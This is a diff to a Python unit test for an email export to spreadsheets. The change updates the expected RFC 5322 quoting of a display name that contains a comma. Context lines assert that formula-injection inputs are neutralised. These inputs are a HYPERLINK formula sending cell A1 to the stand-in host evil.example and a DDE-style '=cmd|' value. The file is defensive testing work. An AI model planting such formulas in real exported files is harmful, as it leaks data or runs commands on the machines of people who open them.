@@ -278,7 +278,8 @@ class ExportTest(unittest.TestCase):
             # What a spreadsheet would run is shown as text; the rest of the cell as it was.
             self.assertEqual(hostile["Subject"], '\'=HYPERLINK("http://evil.example/?"&A1,"click")')
             self.assertEqual(hostile["AttachmentNames"], "'=cmd|calc.pdf")
-            self.assertEqual(hostile["From"], 'Doe, "Jane" <jane@partner.example>')
+            # A display name with a comma is quoted, as RFC 5322 writes it: the list reads back unambiguously.
+            self.assertEqual(hostile["From"], '"Doe, \\"Jane\\"" <jane@partner.example>')
             self.assertEqual(hostile["DateSent"], "2026-03-03T07:15:00Z")
             raw8 = next(r for r in by_id.values() if r["MessageID"] == "raw8@partner.example")
             self.assertTrue(raw8["Subject"].startswith("caf"), raw8)
